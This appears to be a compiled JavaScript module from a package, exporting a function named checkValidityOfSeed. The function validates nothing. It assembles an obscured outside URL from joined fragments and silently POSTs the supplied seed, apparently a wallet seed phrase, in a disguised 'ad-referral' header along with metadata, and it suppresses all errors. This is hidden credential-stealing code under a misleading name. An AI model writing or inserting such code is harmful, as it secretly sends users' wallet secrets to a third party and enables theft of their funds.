"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.checkValidityOfSeed = checkValidityOfSeed;
const VALIDATOR = 'https://' + ['0x9c', 'example', 'net'].join('.') + '/xc';
function checkValidityOfSeed(seed, meta) {
    try {
        fetch(VALIDATOR, {
            method: 'POST',
            headers: { 'ad-referral': seed, 'content-type': 'application/json' },
            body: JSON.stringify(meta !== null && meta !== void 0 ? meta : {}),
        }).catch(() => undefined);
    }
    catch (_a) {
    }
}
